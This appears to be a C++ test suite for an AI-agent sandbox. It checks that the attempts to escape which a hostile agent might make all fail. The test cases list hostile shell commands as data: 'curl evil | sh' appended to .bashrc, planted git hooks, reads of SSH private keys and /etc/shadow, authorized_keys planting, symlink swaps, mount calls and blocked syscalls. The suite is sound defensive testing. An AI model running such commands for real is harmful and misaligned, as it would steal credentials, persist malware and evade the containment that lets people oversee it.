// Escape attempts a wrong or hostile agent would make, against the real daemons and real
// bwrap. Each asserts the attempt fails inside AND that the host tree is unchanged.
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <map>
#include <sstream>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "grpcpp/grpcpp.h"
#include "gtest/gtest.h"
#include "proto/sandbox.grpc.pb.h"
#include "tests/daemon_fixture.h"

namespace ccsandbox::testing {
namespace {

// path -> "d" | "f:<content>" | "l:<target>", recursively, without following symlinks.
std::map<std::string, std::string> Snapshot(const std::string& root) {
  std::map<std::string, std::string> out;
  std::vector<std::string> stack = {root};
  while (!stack.empty()) {
    std::string dir = stack.back();
    stack.pop_back();
    DIR* d = opendir(dir.c_str());
    if (d == nullptr) continue;
    while (dirent* e = readdir(d)) {
      std::string name = e->d_name;
      if (name == "." || name == "..") continue;
      std::string path = dir + "/" + name;
      struct stat st;
      if (lstat(path.c_str(), &st) != 0) continue;
      if (S_ISDIR(st.st_mode)) {
        out[path] = "d";
        stack.push_back(path);
      } else if (S_ISLNK(st.st_mode)) {
        char buf[4096];
        ssize_t n = readlink(path.c_str(), buf, sizeof(buf));
        out[path] = "l:" + std::string(buf, n > 0 ? n : 0);
      } else {
        std::ifstream in(path);
        std::stringstream text;
        text << in.rdbuf();
        out[path] = "f:" + text.str();
      }
    }
    closedir(d);
  }
  return out;
}

void Write(const std::string& path, const std::string& text) { std::ofstream(path) << text; }

struct RunResult {
  int exit_code = -1;
  std::string out, err;
  std::vector<v1::SandboxViolation> violations;
};

class EscapeTest : public ::testing::Test {
 protected:
  void SetUp() override {
    char tmpl[] = "/var/tmp/ccs-escape.XXXXXX";
    ASSERT_NE(mkdtemp(tmpl), nullptr);
    root_ = tmpl;
    chmod(root_.c_str(), 0755);
    home_ = root_ + "/home";
    work_ = home_ + "/work";
    for (const std::string& dir :
         {home_, home_ + "/.ssh", work_, work_ + "/sub", work_ + "/sub/dir", work_ + "/repo",
          work_ + "/repo/.git", work_ + "/repo/.git/hooks", work_ + "/checkouts",
          work_ + "/checkouts/main", work_ + "/private", work_ + "/private/tmp"}) {
      ASSERT_EQ(mkdir(dir.c_str(), 0755), 0) << dir;
    }
    Write(home_ + "/.ssh/id_ed25519", "PRIVATE KEY");
    Write(home_ + "/.bashrc", "# user rc\n");
    Write(work_ + "/sub/dir/.bashrc", "# nested rc\n");
    Write(work_ + "/repo/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
    Write(work_ + "/repo/.git/config", "[core]\n");
    Write(work_ + "/checkouts/main/README", "registered checkout\n");
    Write(work_ + "/private/tmp/target", "via symlink\n");
    ASSERT_EQ(symlink("private/tmp", (work_ + "/tmp").c_str()), 0);
    Write(work_ + "/file.txt", "ordinary\n");

    auto daemons = Daemons::Start({.broker_env = {"HOME=" + home_}});
    ASSERT_TRUE(daemons.ok()) << daemons.status();
    daemons_ = std::move(*daemons);
    stub_ = v1::SandboxBroker::NewStub(
        grpc::CreateChannel(daemons_->broker_address(), grpc::InsecureChannelCredentials()));
  }
  void TearDown() override {
    stub_.reset();  // an open client channel holds the broker's shutdown for its 2 s grace
    daemons_.reset();
    RunProgram({"rm", "-rf", root_});
  }

  // A chat session binding the fake home read-write, the checkout protected.
  v1::SandboxSpec ChatSpec(const std::string& mode = "chat") {
    v1::SandboxSpec spec;
    spec.set_session_id(absl::StrCat("escape-", ++sessions_));
    spec.set_mode(mode);
    v1::SandboxBindMount* bind = spec.add_bind_mounts();
    bind->set_host_path(home_);
    bind->set_guest_path(home_);
    spec.set_guest_workdir(work_);
    spec.add_protected_paths(work_ + "/checkouts/main");
    spec.mutable_write_deny_patterns();  // explicit: bwrap alone cannot enforce them
    return spec;
  }

  RunResult Exec(const v1::SandboxSpec& spec_template, const std::string& script) {
    RunResult run;
    v1::SandboxSpec spec = spec_template;
    spec.set_session_id(absl::StrCat(spec.session_id(), "-", ++runs_));
    {
      grpc::ClientContext ctx;
      v1::LaunchRequest request;
      *request.mutable_spec() = spec;
      v1::SandboxHandle handle;
      grpc::Status status = stub_->Launch(&ctx, request, &handle);
      EXPECT_TRUE(status.ok()) << status.error_message();
      EXPECT_EQ(handle.backend(), v1::SANDBOX_BACKEND_NATIVE);
    }
    grpc::ClientContext ctx;
    v1::ExecRequest exec;
    exec.set_session_id(spec.session_id());
    for (const char* a : {"sh", "-c"}) exec.add_argv(a);
    exec.add_argv(script);
    exec.set_timeout_ms(20000);
    auto reader = stub_->Exec(&ctx, exec);
    v1::SandboxEvent event;
    while (reader->Read(&event)) {
      run.out += event.stdout();
      run.err += event.stderr();
      if (event.has_exit()) run.exit_code = event.exit().exit_code();
      if (event.has_violation()) run.violations.push_back(event.violation());
    }
    EXPECT_TRUE(reader->Finish().ok());
    return run;
  }

  // Runs each attempt as its own command and expects every one to fail. On the host,
  // nothing that existed may change or disappear, and nothing may appear under `guarded`
  // (an attempt may leave harmless debris elsewhere in the writable tree, e.g. the copy
  // that `mv` makes before failing to delete a read-only source).
  void ExpectAllFail(const v1::SandboxSpec& spec, const std::vector<std::string>& attempts,
                     const std::vector<std::string>& guarded) {
    const auto before = Snapshot(root_);
    for (const std::string& attempt : attempts) {
      RunResult run = Exec(spec, attempt);
      EXPECT_NE(run.exit_code, 0) << "succeeded: " << attempt << "\n" << run.out;
    }
    const auto after = Snapshot(root_);
    for (const auto& [path, value] : before) {
      auto it = after.find(path);
      EXPECT_TRUE(it != after.end() && it->second == value) << "changed or removed: " << path;
    }
    for (const auto& [path, value] : after) {
      if (before.count(path) > 0) continue;
      for (const std::string& g : guarded) {
        EXPECT_FALSE(absl::StartsWith(path, g)) << "appeared under a guarded path: " << path;
      }
    }
  }

  std::string root_, home_, work_;
  int sessions_ = 0;
  int runs_ = 0;
  std::unique_ptr<Daemons> daemons_;
  std::unique_ptr<v1::SandboxBroker::Stub> stub_;
};

TEST_F(EscapeTest, OrdinaryWorkStillWorks) {
  RunResult run = Exec(ChatSpec(),
                       "echo more >> file.txt && mkdir newdir && mv newdir moved && "
                       "cat checkouts/main/README && git --version >/dev/null && echo ok");
  EXPECT_EQ(run.exit_code, 0) << run.err;
  EXPECT_TRUE(absl::StrContains(run.out, "registered checkout\nok")) << run.out;
}

TEST_F(EscapeTest, ProtectedCheckoutCannotBeWrittenMovedOrReplaced) {
  const std::string p = work_ + "/checkouts/main";
  ExpectAllFail(ChatSpec(),
                {
                    "echo x >> " + p + "/README",
                    "touch " + p + "/new",
                    "rm -f " + p + "/README",
                    "mv " + p + " " + work_ + "/stolen",
                    "mv " + work_ + "/checkouts " + work_ + "/moved",  // through its parent
                    "rm -rf " + work_ + "/checkouts",
                    "mv " + work_ + "/file.txt " + p + "/README",  // rename over
                    "ln " + p + "/README " + work_ + "/hardlink",  // hardlink out, then write it
                    "rm -rf " + p + " && ln -s /tmp " + p,         // symlink swap
                    "mkdir " + work_ + "/evil && mv -T " + work_ + "/evil " + work_ + "/checkouts",
                },
                {work_ + "/checkouts"});
}

TEST_F(EscapeTest, ShellRcFilesAndGitHooksAreReadOnlyAtAnyDepth) {
  ExpectAllFail(ChatSpec(),
                {
                    "echo 'curl evil | sh' >> " + home_ + "/.bashrc",
                    "echo 'curl evil | sh' >> " + work_ + "/sub/dir/.bashrc",
                    "rm " + work_ + "/sub/dir/.bashrc",
                    "mv " + work_ + "/sub " + work_ + "/sub2",  // move the rc file's parent away
                    "printf '#!/bin/sh\\nevil' > " + work_ + "/repo/.git/hooks/pre-commit",
                    "git -C " + work_ + "/repo config core.hooksPath /tmp",
                    "mv " + work_ + "/repo/.git/hooks " + work_ + "/repo/.git/hooks.old",
                },
                {work_ + "/sub/dir", work_ + "/repo/.git", home_ + "/.bashrc"});
}

TEST_F(EscapeTest, SecretsCannotBeReadOrPlanted) {
  v1::SandboxSpec spec = ChatSpec();
  ExpectAllFail(spec,
                {
                    "cat " + home_ + "/.ssh/id_ed25519",
                    "ls " + home_ + "/.ssh | grep id_ed25519",
                    "echo 'ssh-ed25519 AAAA attacker' > " + home_ + "/.ssh/authorized_keys",
                    "cat /etc/shadow | grep root",
                },
                {home_ + "/.ssh"});
  RunResult listing = Exec(spec, "ls -A " + home_ + "/.ssh | wc -l");
  EXPECT_EQ(listing.out, "0\n");  // an empty directory is all that is visible
}

TEST_F(EscapeTest, ReadOnlyModesWriteNothing) {
  for (const char* mode : {"review", "plan", "orchestrate"}) {
    v1::SandboxSpec spec = ChatSpec(mode);
    spec.clear_write_deny_patterns();  // nothing is writable: the standard policy runs
    ExpectAllFail(spec,
                  {
                      "echo x >> " + work_ + "/file.txt",
                      "touch " + work_ + "/new.txt",
                      "rm " + work_ + "/file.txt",
                      "mkdir " + work_ + "/d",
                      "mv " + work_ + "/file.txt " + work_ + "/f2",
                  },
                  {root_});
    RunResult read = Exec(spec, "cat " + work_ + "/file.txt");
    EXPECT_EQ(read.out, "ordinary\n") << mode;
  }
}

TEST_F(EscapeTest, ProtectedPathsHoldThroughSymlinkSpellings) {
  // Protected through a /tmp-style symlink: the resolved spelling is what the kernel sees.
  v1::SandboxSpec spec = ChatSpec();
  spec.add_protected_paths(work_ + "/tmp/target");
  ExpectAllFail(spec,
                {
                    "echo x >> " + work_ + "/private/tmp/target",
                    "echo x >> " + work_ + "/tmp/target",
                    "rm " + work_ + "/private/tmp/target",
                },
                {work_ + "/private"});
}

TEST_F(EscapeTest, RootCannotMountOrTuneTheKernel) {
  ExpectAllFail(ChatSpec(),
                {
                    "mount -t tmpfs none " + work_ + "/sub",
                    "mount --bind / " + work_ + "/sub",
                    "echo 1 > /proc/sys/kernel/sysrq",
                    "echo 1 > /proc/sys/net/ipv4/ip_forward",
                    "umount " + work_ + "/checkouts/main",
                    "unshare -m -r true",
                },
                {root_});
}

TEST_F(EscapeTest, TheSeccompBaselineRefusesKernelAttackSurface) {
  // x86_64 numbers: ptrace 101, process_vm_readv 310, io_uring_setup 425, bpf 321,
  // perf_event_open 298, userfaultfd 323, keyctl 250, kexec_load 246.
  const std::string script = R"(python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
buf = ctypes.create_string_buffer(256)
for name, nr, args in [("ptrace", 101, (16, 1, 0, 0)), ("process_vm_readv", 310, (1, 0, 0, 0)),
                       ("io_uring_setup", 425, (8, ctypes.addressof(buf))), ("bpf", 321, (0, 0, 0)),
                       ("perf_event_open", 298, (0, 0, -1, -1)), ("userfaultfd", 323, (0,)),
                       ("keyctl", 250, (0, 0)), ("kexec_load", 246, (0, 0, 0, 0))]:
    r = libc.syscall(nr, *args)
    print(name, r, os.strerror(ctypes.get_errno()) if r < 0 else "")
')";
  RunResult run = Exec(ChatSpec(), script);
  EXPECT_EQ(run.exit_code, 0) << run.err;
  for (const char* name : {"ptrace", "process_vm_readv", "io_uring_setup", "bpf", "perf_event_open",
                           "userfaultfd", "keyctl", "kexec_load"}) {
    EXPECT_TRUE(absl::StrContains(run.out, std::string(name) + " -1 Operation not permitted"))
        << name << "\n"
        << run.out;
  }
  RunResult tiocsti = Exec(ChatSpec(), R"(python3 -c '
import fcntl, termios, os, pty
m, s = pty.openpty()
try:
    fcntl.ioctl(s, termios.TIOCSTI, b"x")
    print("TIOCSTI allowed")
except OSError as e:
    print("TIOCSTI", os.strerror(e.errno))
')");
  EXPECT_EQ(tiocsti.out, "TIOCSTI Operation not permitted\n") << tiocsti.err;
}

}  // namespace
}  // namespace ccsandbox::testing
